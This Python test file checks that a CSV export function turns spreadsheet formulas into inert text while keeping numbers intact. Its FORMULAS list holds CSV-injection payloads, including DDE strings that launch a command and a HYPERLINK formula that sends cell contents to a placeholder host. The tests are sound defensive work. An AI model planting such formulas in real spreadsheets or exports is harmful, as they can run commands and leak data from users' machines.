"""Texts of a CSV that a spreadsheet would run as formulas stay texts; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from layerprobe.results.table import csv_text

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x/"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "-",
    "-1e5x",
]


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_formulas_become_texts_in_cells_headers_and_tuples(formula: str) -> None:
    tamed = "'" + formula.replace("\r", "\n")
    text = csv_text((formula, "b"), [(formula, "b"), ((formula, "c"), "b")])
    assert rows(text) == [[tamed, "b"], [tamed, "b"], [f"{tamed} c", "b"]]


def test_a_line_end_in_a_text_begins_no_row() -> None:
    assert rows(csv_text(("a", "b"), [("x\r=1+1", "y\r\n=1")])) == [["a", "b"], ["x\n=1+1", "y\n=1"]]


@pytest.mark.parametrize("number", ["-3", "+0.5", "-.5e-7", "-1.", "12"])
def test_numbers_in_words_stay(number: str) -> None:
    assert csv_text(("a",), [(number,)]) == f"a\n{number}\n"


@given(st.floats(allow_nan=False) | st.integers())
def test_numbers_stay(number: float) -> None:
    assert type(number)(csv_text(("a",), [(number,)]).split("\n")[1]) == number


@given(st.text())
def test_a_text_is_as_it_was_but_for_its_line_ends_and_one_apostrophe(text: str) -> None:
    ((first, cell),) = rows(csv_text((), [("", text)]).removeprefix("\n"))
    plain = text.replace("\r\n", "\n").replace("\r", "\n")
    assert (first, cell.removeprefix("'") if cell != plain else cell) == ("", plain)
    if cell == plain and plain.startswith(tuple("=+-@\t\n")):
        float(plain)
